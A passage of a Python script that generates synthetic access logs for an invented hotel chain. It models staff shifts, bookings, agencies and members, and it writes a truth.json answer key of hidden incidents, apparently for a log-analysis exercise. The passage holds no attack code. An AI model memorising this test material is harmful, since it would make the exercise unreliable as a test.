#!/usr/bin/env python3
"""Draws the access logs of an invented chain of ryokan and hotels, with a list of what is hidden in them.

python3 -I hotels.py --seed N --days 35|63 --out DIR

Writes the settings (mimamori.yaml), the logs of 14 sites in six formats, the context tables and truth.json.
The same seed gives the same bytes.
"""

import argparse
import csv
import gzip
import io
import json
import math
import os
import random
import sys
import zlib
from datetime import date, datetime, timedelta, timezone

DAY = 86400
JST = timezone(timedelta(hours=9))
MON = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

# ------------------------------------------------------------------------------------------------ word lists

COMPANIES = [
    ("Tsukuyo Resorts", "tsukuyo"),
    ("Hanagasumi Hotels", "hanagasumi"),
    ("Yukimi Inns", "yukimi"),
    ("Asagiri Ryokan Group", "asagiri"),
    ("Minamo Stay", "minamo"),
    ("Komorebi Houses", "komorebi"),
]
PLACES = [
    "hakone",
    "kinosaki",
    "beppu",
    "kusatsu",
    "atami",
    "noboribetsu",
    "arima",
    "dogo",
    "nikko",
    "wakura",
    "ibusuki",
    "takayama",
    "naruko",
    "toba",
    "zao",
    "kurokawa",
]
STARTS = [
    date(2026, 3, 30),
    date(2026, 4, 13),
    date(2026, 6, 29),
    date(2026, 7, 20),
    date(2026, 8, 26),
    date(2026, 9, 28),
    date(2026, 10, 22),
]
HOLIDAYS = {
    date(2026, *md)
    for md in [
        (3, 20),
        (4, 29),
        (5, 3),
        (5, 4),
        (5, 5),
        (5, 6),
        (7, 20),
        (8, 11),
        (9, 21),
        (9, 22),
        (9, 23),
        (10, 12),
        (11, 3),
        (11, 23),
        (12, 31),
    ]
}
SURNAMES = [
    ("sato", "佐藤"),
    ("suzuki", "鈴木"),
    ("takahashi", "高橋"),
    ("tanaka", "田中"),
    ("ito", "伊藤"),
    ("watanabe", "渡辺"),
    ("yamamoto", "山本"),
    ("nakamura", "中村"),
    ("kobayashi", "小林"),
    ("kato", "加藤"),
    ("yoshida", "吉田"),
    ("yamada", "山田"),
    ("sasaki", "佐々木"),
    ("yamaguchi", "山口"),
    ("matsumoto", "松本"),
    ("inoue", "井上"),
    ("kimura", "木村"),
    ("hayashi", "林"),
    ("shimizu", "清水"),
    ("mori", "森"),
    ("abe", "阿部"),
    ("ikeda", "池田"),
    ("hashimoto", "橋本"),
    ("ishikawa", "石川"),
    ("ogawa", "小川"),
    ("okada", "岡田"),
    ("goto", "後藤"),
    ("hasegawa", "長谷川"),
]
GIVEN = [
    "陽子",
    "健一",
    "美咲",
    "翔太",
    "直樹",
    "由美",
    "大輔",
    "恵",
    "拓也",
    "香織",
    "誠",
    "彩",
    "亮",
    "千尋",
    "隆",
    "真由美",
    "智也",
    "葵",
    "浩二",
    "奈々",
    "剛",
    "楓",
    "修",
    "遥",
]
AGENCY_NAMES = [
    "Aozora Travel",
    "Nagisa Tours",
    "Hokuto Kanko",
    "Pacific Gate",
    "Sakura Line",
    "Kita Tabi",
    "Mikasa Trip",
    "Lotus Asia",
    "Blue Fuji",
    "Seaside Club",
    "Ginga Tours",
    "Orchid Holidays",
    "Minato Kanko",
    "Yume Tabi",
    "Tokai Bus Tours",
    "Silk Road DMC",
    "Hoshi Travel",
    "Amber Trips",
]

WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"
EDGE = WIN + " Edg/{v}.0.0.0"
MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"
FOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"
IPAD = "Mozilla/5.0 (iPad; CPU OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1"
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_{m} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.{m}"
    " Mobile/15E148 Safari/604.1"
)
DROID = "Mozilla/5.0 (Linux; Android 1{m}; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36"
SAFARI = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.{m} Safari/605.1.15"
GBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
BING = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
AHREFS = "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"
APPLE = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 "
    "(Applebot/0.1; +http://www.apple.com/go/applebot)"
)

ASSETS = {
    "pms": ["/static/app.4f1c.js", "/static/app.4f1c.css", "/static/icons.svg"],
    "crs": ["/assets/crs-main.js", "/assets/crs-main.css", "/assets/fonts/noto.woff2"],
    "members": ["/css/members.css", "/js/members.js", "/img/logo.svg"],
    "office": ["/Content/site.css", "/Scripts/app.js"],
    "agency": ["/a/agency.css", "/a/agency.js"],
    "public": [
        "/css/style.css",
        "/js/main.js",
        "/img/logo.svg",
        "/img/hero.webp",
        "/js/analytics.js",
    ],
}
MAIN_SITES = ["www", "members", "crs", "office", "agency"]

# hour weights of people who are not at work
LEISURE = [3, 2, 1, 1, 1, 1, 2, 4, 5, 6, 7, 7, 10, 8, 6, 6, 6, 7, 8, 10, 12, 14, 12, 7]
OFFICEH = [0, 0, 0, 0, 0, 0, 0, 1, 4, 9, 10, 9, 5, 8, 9, 9, 8, 6, 3, 2, 1, 0, 0, 0]


def poisson(rng, lam):
    if lam <= 0:
        return 0
    if lam > 40:
        return max(0, round(rng.gauss(lam, math.sqrt(lam))))
    limit, k, p = math.exp(-lam), 0, 1.0
    while True:
        p *= rng.random()
        if p <= limit:
            return k
        k += 1


def clock(d, hour):
    return d * DAY + hour * 3600


def hexid(rng, n=32):
    return "%0*x" % (n, rng.getrandbits(4 * n))


def home_ip(rng):
    if rng.random() < 0.12:
        return "2400:%x:%x:%x::%x" % (
            rng.choice([0x4050, 0x4051, 0x2411]),
            rng.randrange(0x1000, 0xFFFF),
            rng.randrange(0x100, 0xFFF0),
            rng.randrange(0x10, 0xFFF0),
        )
    a = rng.choice(
        [
            (126, 0, 240),
            (153, 120, 255),
            (180, 0, 60),
            (114, 144, 190),
            (60, 60, 160),
            (219, 96, 220),
            (118, 0, 24),
        ]
    )
    return "%d.%d.%d.%d" % (
        a[0],
        rng.randrange(a[1], a[2]),
        rng.randrange(256),
        rng.randrange(1, 255),
    )


def mobile_ip(rng):
    a = rng.choice([(49, 96, 100), (1, 66, 80), (106, 128, 176), (126, 240, 255)])
    return "%d.%d.%d.%d" % (
        a[0],
        rng.randrange(a[1], a[2]),
        rng.randrange(256),
        rng.randrange(1, 255),
    )


def abroad_ip(rng):
    a = rng.choice(
        [(45, 140), (185, 220), (91, 214), (103, 27), (194, 5), (38, 242), (5, 188), (196, 196)]
    )
    return "%d.%d.%d.%d" % (a[0], a[1], rng.randrange(256), rng.randrange(1, 255))


def agent(rng, v):
    kind = rng.random()
    m = rng.randrange(3, 7)
    if kind < 0.36:
        return IPHONE.format(m=m)
    if kind < 0.58:
        return DROID.format(m=m - 1 if m < 6 else 5, v=v - rng.randrange(3))
    if kind < 0.80:
        return WIN.format(v=v - rng.randrange(2))
    if kind < 0.90:
        return EDGE.format(v=v - rng.randrange(2))
    if kind < 0.96:
        return SAFARI.format(m=m)
    return FOX.format(v=v + 3)


# ------------------------------------------------------------------------------------------------ people and things


class Person:
    def __init__(self, uid, name, dept, role, house):
        self.uid, self.name, self.dept, self.role, self.house = uid, name, dept, role, house
        self.key = ""
        self.home = self.vpn = self.ua = ""
        self.upd = 0
        self.rate = 1.0
        self.off = 0
        self.start = 9.0
        self.leave = {}
        self.joined, self.left = -1000, None
        self.joined_on = None
        self.remote = 0.0
        self.exports = False
        self.moves = None
        self.helps = {}
        self.company = ""
        self.country = "JP"
        self.agency = None


class Booking:
    __slots__ = (
        "rid",
        "gid",
        "house",
        "arr",
        "nights",
        "chan",
        "agency",
        "made",
        "made_t",
        "foreign",
        "member",
        "suite",
        "group",
    )


class Member:
    __slots__ = ("uid", "gid", "home", "mob", "ua", "ua2", "keen", "books")


class Shift:
    __slots__ = ("site", "day", "t0", "t1", "c", "p", "lunch")

    def __init__(self, site, day, t0, t1, c, p, lunch=None):
        self.site, self.day, self.t0, self.t1, self.c, self.p, self.lunch = (
            site,
            day,
            t0,
            t1,
            c,
            p,
            lunch,
        )


class Client:
    """One browser of one person at one site."""

    def __init__(self, w, site, ip, user, ua, sess=None, tag=None):
        self.w, self.site, self.ip, self.user, self.ua, self.sess, self.tag = (
            w,
            site,
            ip,
            user,
            ua,
            sess,
            tag,
        )
        self.last = None

    def go(self, t, meth, path, q="", st=200, size=None, dur=None, tag=None, user=0, sess=0, ref=0):
        w, r = self.w, self.w.r
        if (
            st == 200
            and r.random() < 0.0012
            and not (tag or self.tag)
            and "." not in path
            and path != "/healthz"
        ):
            st = r.choice([500, 500, 503, 499])
        if size is None:
            size = w.size_of(self.site, path, st, meth)
        if dur is None:
            dur = (
                math.exp(r.gauss(4.0, 0.6))
                if path[:4] not in ("/sta", "/ass", "/css", "/js/", "/img", "/Con", "/Scr", "/a/a")
                else 1 + r.random() * 8
            )
        if ref == 0:
            ref = self.last
        w.events[self.site].append(
            [
                t,
                self.ip,
                self.user if user == 0 else user,
                self.sess if sess == 0 else sess,
                meth,
                path,
                q,
                st,
                size,
                dur,
                ref,
                self.ua,
                tag or self.tag,
            ]
        )
        if meth == "GET" and st == 200 and "." not in path[-6:]:
            self.last = path
        return t

    def assets(self, t, tag=None, fresh=None, user=0):
        r = self.w.r
        sess = None if user is None else 0
        fresh = r.random() < 0.4 if fresh is None else fresh
        for a in ASSETS[self.w.kind(self.site)]:
            t += 0.05 + r.random() * 0.4
            if fresh:
                self.go(t, "GET", a, tag=tag, user=user, sess=sess)
            elif r.random() < 0.5:
                self.go(t, "GET", a, st=304, size=0, tag=tag, user=user, sess=sess)
        return t

    def login(self, t, fail=0.04, tag=None, path="/login", home="/home"):
        r = self.w.r
        self.go(t, "GET", path, user=None, sess=None, tag=tag, ref=None)
        self.assets(t, tag, user=None)
        t += 6 + r.random() * 14
        while r.random() < fail:
            self.go(t, "POST", path, st=401, sess=None, tag=tag)
            t += 8 + r.random() * 15
        self.go(t, "POST", path, st=302, size=0, tag=tag)
        t += 0.3 + r.random()
        self.go(t, "GET", home, tag=tag)
        return t + 1


# ------------------------------------------------------------------------------------------------ the world


class World:
    def __init__(self, seed, days):
        self.seed, self.n = seed, days
        self.r = self.rng("life")
        r = self.rng("frame")
        self.start = r.choice(STARTS)
        self.company, self.slug = r.choice(COMPANIES)
        self.ad = self.slug.upper()[:8]
        self.base = datetime(
            self.start.year, self.start.month, self.start.day, tzinfo=JST
        ).timestamp()
        self.dates = [self.start + timedelta(days=i) for i in range(days)]
        self.chrome = 143 + self.start.month
        self.chrome_day = r.randrange(8, 26)
        self.events = {}
        self.cuts = []
        self.auto = []
        self.shifts = {}
        self.taken = set()
        self.daily_new = {}
        self.noise = r.uniform(0.9, 1.15)
        self.codes = r.sample(PLACES, 9)
        self.houses = {}
        for i, code in enumerate(self.codes):
            self.houses[code] = {
                "site": "pms-" + code,
                "rooms": r.choice([18, 22, 26, 30, 34, 42, 48, 60, 72]),
                "nat": home4(r),
                "nat2": home4(r),
                "nat_day": None,
                "foreign": r.uniform(0.1, 0.45),
                "occ": r.uniform(0.52, 0.78),
                "closed": [],
                "ua_day": None,
            }
        for s in MAIN_SITES + [h["site"] for h in self.houses.values()]:
            self.events[s] = []
        self.hq = [home4(r), home4(r)]
        self.ccnat = [home4(r), home4(r)]
        self.svc_ip = {"channel": [home4(r), home4(r)], "monitor": home4(r)}
        self.storm = r.randrange(17, days - 6)
        self.storm_name = (
            ("typhoon no. %d" % r.randrange(4, 22))
            if 6 <= self.date(self.storm).month <= 10
            else "a gale that stopped trains"
        )
        self.annoys, self.incs = [], []
        self.people = []
        self.by_uid = {}
        self.choose()
        self.hire()
        self.prepare()
        self.book()

    def rng(self, name):
        return random.Random("%s/%s" % (self.seed, name))

    # ---- calendar

    def date(self, d):
        return self.start + timedelta(days=d)

    def wd(self, d):
        return self.date(d).weekday()

    def office(self, d):
        x = self.date(d)
        return x.weekday() < 5 and x not in HOLIDAYS

    def demand(self, d):
        x = self.date(d)
        f = {0: 0.82, 1: 0.8, 2: 0.84, 3: 0.9, 4: 1.08, 5: 1.38, 6: 1.0}[x.weekday()]
        if x in HOLIDAYS or (x + timedelta(days=1)) in HOLIDAYS:
            f = max(f, 1.2)
        if date(2026, 4, 29) <= x <= date(2026, 5, 5) or date(2026, 8, 8) <= x <= date(2026, 8, 16):
            f = max(f, 1.4) * 1.05
        if date(2026, 9, 19) <= x <= date(2026, 9, 22) or date(2026, 11, 7) <= x <= date(
            2026, 11, 29
        ):
            f *= 1.12
        if x.month in (6,) or (x.month == 12 and x.day < 24):
            f *= 0.88
        return f

    def month_end(self, d):
        """The last two office days of a month and the first two of the next."""
        if not self.office(d):
            return False
        x = self.date(d)
        later = sum(
            1 for i in range(1, 12) if self.date(d + i).month == x.month and self.office(d + i)
        )
        before = sum(
            1 for i in range(1, 12) if self.date(d - i).month == x.month and self.office(d - i)
        )
        return later < 2 or before < 2

    # ---- helpers

    def kind(self, site):
        return "pms" if site.startswith("pms-") else "public" if site == "www" else site

    def host(self, site):
        if site.startswith("pms-"):
            return "%s.pms.%s.example" % (site[4:], self.slug)
        return {
            "www": "www",
            "members": "members",
            "crs": "crs",
            "office": "office",
            "agency": "partners",
        }[site] + ".%s.example" % self.slug

    def size_of(self, site, path, st, meth):
        r = self.r
        if st in (302, 304, 204):
            return 0
        if st >= 400:
            return {
                401: 1180,
                403: 702,
                404: 1331,
                500: 2077,
                502: 559,
                499: 0,
                503: 914,
                504: 562,
                429: 310,
            }.get(st, 640)
        tail = path.rsplit("/", 1)[-1]
        if "." in tail and not tail.endswith((".aspx", ".ashx", ".csv", ".html")):
            return 900 + zlib.crc32(path.encode()) % 90000
        if meth == "POST":
            return r.randrange(240, 1600)
        if path.endswith("/passport"):
            return r.randrange(88000, 310000)
        if path in (
            "/arrivals",
            "/departures",
            "/inhouse",
            "/bookings",
            "/booking",
            "/guests",
            "/crm/list.aspx",
        ):
            return r.randrange(14000, 42000)
        if path in ("/healthz",):
            return 15
        return int(5200 + r.random() * 5200)

    def ua_of(self, p, d):
        v = self.chrome + (1 if d >= self.chrome_day + p.upd else 0)
        if (
            p.house
            and p.role != "manager"
            and self.houses[p.house]["ua_day"] is not None
            and d >= self.houses[p.house]["ua_day"]
        ):
            return EDGE.format(v=v)
        return p.ua.format(v=v, m=5)

    def nat(self, house, d):
        h = self.houses[house]
        return h["nat2"] if h["nat_day"] is not None and d >= h["nat_day"] else h["nat"]

    def working(self, p, d):
        if d < p.joined or (p.left is not None and d >= p.left) or d in p.leave:
            return False
        role = p.role
        if role in ("front", "keeper"):
            return (d + p.off) % 6 < 4
        if role == "call":
            return (d + p.off) % 7 < 5
        if role == "resv":
            return (d + p.off) % 7 < 5
        if role == "manager":
            return (d + p.off) % 7 < 5
        return self.office(d)

    def times(self, t0, t1, n, lunch=None):
        r = self.r
        out = []
        for _ in range(n):
            for _ in range(20):
                t = t0 + r.random() * (t1 - t0)
                if not lunch or not lunch[0] < t < lunch[1]:
                    out.append(t)
                    break
        out.sort()
        return out

    def when(self, d, weights):
        r = self.r
        h = r.choices(range(24), weights)[0]
        return clock(d, h) + r.random() * 3600

    def take(self, r, role, house=None, want=None, hold=True):
        """A person of a role whom no other story uses yet."""
        pool = [
            p
            for p in self.people
            if p.role == role
            and p.uid not in self.taken
            and (house is None or p.house == house)
            and p.left is None
            and p.joined < 0
            and not p.moves
            and (want is None or want(p))
        ]
        if not pool:
            pool = [
                p
                for p in self.people
                if p.role == role
                and p.left is None
                and p.joined < 0
                and (house is None or p.house == house)
            ]
        p = r.choice(pool)
        if hold:
            self.taken.add(p.uid)
        return p

    def pick_day(self, r, lo=14, hi=None, ok=None):
        hi = self.n - 3 if hi is None else hi
        pool = [d for d in range(lo, hi + 1) if (ok is None or ok(d)) and abs(d - self.storm) > 1]
        pool = pool or list(range(lo, hi + 1))
        least = min(self.daily_new.get(d, 0) for d in pool)
        d = r.choice([x for x in pool if self.daily_new.get(x, 0) == least])
        self.daily_new[d] = self.daily_new.get(d, 0) + 1
        return d

    def shift_days(self, p, lo, hi, site=None):
        return [
            s
            for s in self.shifts.get(p.uid, [])
            if lo <= s.day <= hi and (site is None or s.site == site)
        ]

    # ---- who works here

    def hire(self):
        r = self.rng("people")
        ids = r.sample(range(10000, 39999), 400)
        count = [0]

        def add(dept, role, house=None, prefix="s"):
            sn = r.choice(SURNAMES)
            i = count[0]
            count[0] += 1
            uid = "s%05d" % ids[i] if prefix == "s" else "cc%04d" % (ids[i] % 9000 + 1000)
            while uid in self.by_uid:
                uid = "cc%04d" % r.randrange(1000, 9999)
            p = Person(uid, sn[1] + " " + r.choice(GIVEN), dept, role, house)
            p.key = "P%04d" % (i + 1)
            p.home, p.vpn = home_ip(r), "10.60.%d.%d" % (i // 200 + 1, i % 200 + 10)
            p.ua = r.choice(
                [
                    WIN,
                    WIN,
                    EDGE,
                    EDGE,
                    EDGE,
                    FOX if role == "it" else WIN,
                    MAC if role in ("mkt", "it") else EDGE,
                ]
            )
            p.upd = r.randrange(0, 7)
            p.rate = min(1.7, max(0.55, r.lognormvariate(0, 0.24)))
            p.off = r.randrange(0, 42)
            p.start = r.choice([8.5, 9.0, 9.0, 9.5])
            p.remote = r.choice([0, 0, 0.1, 0.3])
            p.joined_on = date(r.randrange(2012, 2026), r.randrange(1, 13), 1)
            p.company = self.company if prefix == "s" else "Kaede Contact Services"
            for _ in range(2 if r.random() < 0.5 else 1):
                a = r.randrange(0, self.n)
                for k in range(r.choice([1, 1, 2, 4])):
                    p.leave[a + k] = "leave"
            self.people.append(p)
            self.by_uid[uid] = p
            return p

        for code in self.codes:
            big = self.houses[code]["rooms"] > 40
            add("House", "manager", code)
            for _ in range(7 if big else 5):
                add("Front desk", "front", code)
            for _ in range(3):
                add("Night audit", "night", code)
            for _ in range(2):
                p = add("Housekeeping", "keeper", code)
                p.ua = IPAD
        for _ in range(15):
            add("Call centre", "call", None, "c")
        for i in range(9):
            p = add("Reservations", "resv")
            p.exports = i == 0
        for i in range(6):
            p = add("Marketing", "mkt")
            p.exports = i < 2
        for i in range(7):
            p = add("Accounting", "acct")
            p.exports = i < 2
        for _ in range(4):
            add("IT", "it")
        for _ in range(2):
            add("Sales", "sales")
        self.agencies = []
        names = r.sample(AGENCY_NAMES, 14)
        for i, nm in enumerate(names):
            code = "ag%03d" % r.choice(range(i * 60 + 1, i * 60 + 60))
            users = []
            nat = home4(r) if r.random() < 0.9 else home_ip(r)
            for sn in r.sample(SURNAMES, r.choice([1, 2, 2, 3])):
                p = Person(
                    "%s.%s" % (code, sn[0]), sn[1] + " " + r.choice(GIVEN), "Agency", "agency", None
                )
                count[0] += 1
                p.key, p.agency, p.company = "P%04d" % count[0], code, nm
                p.ua, p.upd, p.home = r.choice([WIN, EDGE, EDGE, MAC]), r.randrange(7), home_ip(r)
                p.rate = min(1.8, max(0.5, r.lognormvariate(0, 0.3)))
                p.joined_on = date(r.randrange(2019, 2026), r.randrange(1, 13), 1)
                if nm in ("Lotus Asia", "Silk Road DMC"):
                    p.country = "SG"
                users.append(p)
                self.people.append(p)
                self.by_uid[p.uid] = p
            self.agencies.append(
                {
                    "code": code,
                    "name": nm,
                    "nat": nat,
                    "users": users,
                    "share": r.lognormvariate(0, 0.7),
                }
            )
        nums = r.sample(range(10000000, 99999999), 2600)
        gids = r.sample(range(1000000, 9999999), 2600)
        self.gid_used = set(gids)
        self.members = []
        for i in range(2600):
            m = Member()
            m.uid, m.gid = "m%08d" % nums[i], "G%07d" % gids[i]
            m.home, m.mob = home_ip(r), mobile_ip(r)
            m.ua, m.ua2 = agent(r, self.chrome), IPHONE.format(m=r.randrange(3, 7))
            m.keen = r.lognormvariate(0, 0.8)
            m.books = []
            self.members.append(m)

    def prepare(self):
        """Changes in people's lives that everyday work has to know of beforehand."""
        r = self.rng("prepare")
        on = self.on
        # somebody who gives notice, and one who left early in the period: both exist in every company
        self.leaver = self.take(r, r.choice(["sales", "mkt"]), want=lambda p: not p.exports)
        self.leaver.left = self.n - r.randrange(1, 4)
        self.leaver.leave = {}
        self.gone = self.take(r, "front")
        self.gone.left = r.randrange(6, 12)
        self.sleeper = Person(
            "s%05d" % r.randrange(40000, 49999), "外部 " + r.choice(GIVEN), "IT", "temp", None
        )
        self.sleeper.key, self.sleeper.company, self.sleeper.ua = "P9001", "Hinoki Systems", WIN
        self.sleeper.joined_on = date(2025, 2, 1)
        self.sleeper.vpn = "10.60.9.%d" % r.randrange(10, 240)
        self.people.append(self.sleeper)
        if "newcomer" in on:
            self.new = []
            for k in range(2):
                p = self.take(r, "front" if k == 0 else "call")
                p.joined = r.randrange(14, 20)
                p.joined_on = self.date(p.joined)
                p.leave = {}
                self.new.append(p)
        if "moved" in on:
            self.mover = self.take(r, "front")
            self.mover.leave = {}
            self.mover.moves = (
                r.choice([d for d in range(16, self.n - 8) if self.office(d)]),
                "resv",
            )
        if "returned" in on:
            self.back = self.take(r, "resv")
            self.back_day = r.randrange(16, self.n - 6)
            for k in range(0, self.back_day):
                self.back.leave[k] = "parental"
        if "helper" in on:
            self.helper = self.take(r, "front")
            other = r.choice([c for c in self.codes if c != self.helper.house])
            d0 = r.randrange(15, self.n - 7)
            self.helper_at = (d0, d0 + 5, other)
            self.helper.leave = {}
            self.helper.helps = {d: other for d in range(d0, d0 + 6)}
        if "isp" in on:
            c = r.choice(self.codes)
            self.houses[c]["nat_day"] = r.randrange(15, self.n - 4)
            self.isp = c
        if "rollout" in on:
            c = r.choice([x for x in self.codes if self.houses[x]["nat_day"] is None])
            self.houses[c]["ua_day"] = r.randrange(15, self.n - 4)
            self.rolled = c
        if "closed" in on:
            c = r.choice(
                [
                    x
                    for x in self.codes
                    if self.houses[x]["nat_day"] is None and self.houses[x]["ua_day"] is None
                ]
            )
            d0 = next(d for d in range(r.randrange(15, self.n - 9), self.n) if self.wd(d) in (1, 2))
            self.houses[c]["closed"] = [d0, d0 + 1]
            self.shut = c
        self.home_day = self.storm if "homework" in on else None

    # ---- bookings

    def book(self):
        r = self.rng("bookings")
        out = []
        weights = [a["share"] for a in self.agencies]
        mweights = [m.keen for m in self.members]
        repeat = {c: [] for c in self.codes}
        self.groups = []
        for d in range(-25, self.n + 80):
            f = self.demand(d)
            for code in self.codes:
                h = self.houses[code]
                if d in h["closed"] or d + 1 in h["closed"]:
                    continue
                n = poisson(r, h["rooms"] * h["occ"] * f / 1.5)
                for _ in range(n):
                    b = Booking()
                    b.house, b.arr, b.nights = code, d, r.choices([1, 2, 3], [64, 28, 8])[0]
                    if h["closed"] and d < h["closed"][0] < d + b.nights + 1:
                        b.nights = 1
                    b.chan = r.choices(["web", "phone", "agency", "ota"], [34, 14, 22, 30])[0]
                    b.agency = (
                        r.choices(self.agencies, weights)[0]["code"] if b.chan == "agency" else None
                    )
                    b.foreign = r.random() < h["foreign"]
                    b.suite = r.random() < 0.07
                    b.member = None
                    b.group = None
                    lead = int(r.expovariate(1 / 17.0))
                    b.made = d - lead
                    b.made_t = (
                        clock(b.made, 0)
                        + (
                            r.choices(
                                range(24), OFFICEH if b.chan in ("phone", "agency") else LEISURE
                            )[0]
                            + r.random()
                        )
                        * 3600
                    )
                    if lead == 0:
                        b.made_t = clock(d, 7.5) + r.random() * 5 * 3600
                    x = r.random()
                    if x < 0.25 and b.chan in ("web", "phone") and not b.foreign:
                        b.member = r.choices(self.members, mweights)[0]
                        b.gid = b.member.gid
                    elif x < 0.36 and repeat[code]:
                        b.gid = r.choice(repeat[code])
                    else:
                        b.gid = self.new_gid(r)
                        repeat[code].append(b.gid)
                    out.append(b)
        if "group" in self.on:
            for k in range(2):
                code = r.choice(sorted(self.codes, key=lambda c: -self.houses[c]["rooms"])[:4])
                d = r.randrange(15, self.n - 3)
                while d in self.houses[code]["closed"] or d + 1 in self.houses[code]["closed"]:
                    d = r.randrange(15, self.n - 3)
                ag = r.choice(self.agencies)["code"]
                g = {"house": code, "day": d, "agency": ag, "books": []}
                for _ in range(r.randrange(38, 75)):
                    b = Booking()
                    b.house, b.arr, b.nights, b.chan, b.agency = code, d, 1, "agency", ag
                    b.foreign, b.suite, b.member, b.group, b.gid = (
                        k == 1,
                        False,
                        None,
                        k,
                        self.new_gid(r),
                    )
                    b.made = d - 21
                    b.made_t = clock(b.made, 15) + r.random() * 40
                    g["books"].append(b)
                    out.append(b)
                self.groups.append(g)
        out.sort(key=lambda b: b.made_t)
        no = r.randrange(26000000, 26900000)
        for b in out:
            no += r.choice([1, 1, 1, 2, 3])
            b.rid = "R%08d" % no
            if b.member:
                b.member.books.append(b)
        self.books = out
        self.arr, self.dep, self.made = {}, {}, {}
        for b in out:
            self.arr.setdefault((b.house, b.arr), []).append(b)
            self.dep.setdefault((b.house, b.arr + b.nights), []).append(b)
            self.made.setdefault(b.made, []).append(b)
        self.by_house = {c: [b for b in out if b.house == c] for c in self.codes}
        self.by_agency = {
            a["code"]: [b for b in out if b.agency == a["code"]] for a in self.agencies
        }
        wr = self.rng("watch")
        self.decoys = [self.new_gid(wr) for _ in range(3)]
        soon = [b for b in out if 14 < b.arr < self.n - 2 and not b.member and b.suite]
        self.vips = [b.gid for b in wr.sample(soon, 4)]
        self.relative = wr.choice(
            [b for b in out if 2 < b.arr < self.n - 8 and not b.foreign and b.gid not in self.vips]
        )

    def new_gid(self, r):
        while True:
            g = r.randrange(1000000, 9999999)
            if g not in self.gid_used:
                self.gid_used.add(g)
                return "G%07d" % g

    def inhouse(self, code, d):
        """Guests who sleep there in the night after day d."""
        out = []
        for back in range(3):
            out += [b for b in self.arr.get((code, d - back), []) if b.nights > back]
        return out

    def future(self, d, lo=0, hi=30):
        r = self.r
        while True:
            b = r.choice(self.books)
            if b.made <= d and d + lo <= b.arr <= d + hi:
                return b

    # ---- what is drawn

    def choose(self):
        r = self.rng("choice")
        names = [a[0] for a in ANNOY]
        must = [
            "monthend",
            "newsletter",
            "nightclose",
            "group",
            "storm",
            "helper",
            "holiday_pw",
            "monitor",
            "crawler",
            "migration",
            "rollout",
        ]
        rest = [n for n in names if n not in must]
        k = r.randrange(21, 27) - len(must)
        if self.n > 40:
            k += 3
        pickd = must + r.sample(rest, min(k, len(rest)))
        self.on = {n: 1 for n in names if n in pickd}
        # incidents: a third of each grade
        n = r.randrange(14, 19)
        must_i = [i for i in INC if i[3]]
        rest_i = [i for i in INC if not i[3] and not i[4]]
        want = {"easy": n // 3, "medium": n // 3, "hard": n // 3}
        for g in r.sample(["easy", "medium", "hard"], n % 3):
            want[g] += 1
        best = None
        for _ in range(4000):
            chosen = must_i + r.sample(rest_i, n - len(must_i))
            got = {"easy": 0, "medium": 0, "hard": 0}
            plan = []
            for i in chosen:
                g = r.choice(i[2])
                got[g] += 1
                plan.append((i, g))
            gap = sum(abs(got[g] - want[g]) for g in want)
            if best is None or gap < best[0]:
                best = (gap, plan)
            if gap == 0:
                break
        plan = best[1]
        if self.n > 40:
            late = [i for i in INC if i[4]]
            plan = plan + [(i, r.choice(i[2])) for i in late]
        self.plan = plan


def home4(r):
    while True:
        ip = home_ip(r)
        if ":" not in ip:
            return ip


# ------------------------------------------------------------------------------------------------ everyday life


def life(w):
    for d in range(-1, w.n):
        for code in w.codes:
            house_day(w, code, d)
        crs_day(w, d)
        office_day(w, d)
        agency_day(w, d)
        members_day(w, d)
        public_day(w, d)
        systems_day(w, d)


def staff_ip(w, p, d, place=None):
    r = w.r
    if w.home_day == d and p.role in ("resv", "mkt", "acct", "it", "sales", "manager"):
        return p.vpn
    if place:
        return w.nat(place, d)
    if p.role == "call":
        return w.ccnat[p.off % 2]
    if r.random() < p.remote:
        return p.vpn
    return w.hq[p.off % 2]


def begin(w, p, site, d, t0, t1, ip=None, place=None, fail=0.04, home="/home", tag=None):
    r = w.r
    ip = ip or staff_ip(w, p, d, place)
    c = Client(w, site, ip, p.uid, w.ua_of(p, d), hexid(r, 32), tag)
    mid = t0 + (t1 - t0) * r.uniform(0.4, 0.6)
    s = Shift(site, d, t0, t1, c, p, (mid, mid + r.uniform(2400, 3600)))
    c.login(t0 + r.uniform(-300, 500), fail, home=home)
    w.shifts.setdefault(p.uid, []).append(s)
    return s


def house_day(w, code, d):
    r = w.r
    h = w.houses[code]
    site = h["site"]
    if d in h["closed"]:
        return
    staff = [p for p in w.people if p.house == code]
    on = []
    for p in staff:
        if p.role == "front" and not (p.moves and d >= p.moves[0]):
            if p.helps.get(d, code) != code or not w.working(p, d):
                continue
            late = ((d + p.off) // 6 + p.off) % 2
            t0 = clock(d, 13 if late else 7) + r.uniform(-600, 600)
            on.append(begin(w, p, site, d, t0, t0 + 9 * 3600, place=code))
    for p in w.people:
        if p.helps.get(d) == code and p.house != code:
            t0 = clock(d, 11) + r.uniform(-900, 900)
            s = begin(w, p, site, d, t0, t0 + 9 * 3600, place=code, tag="A:helper")
            on.append(s)
    nights = [p for p in staff if p.role == "night"]
    base = (d // 2) % 3
    order = [nights[(base + k) % 3] for k in range(3)]
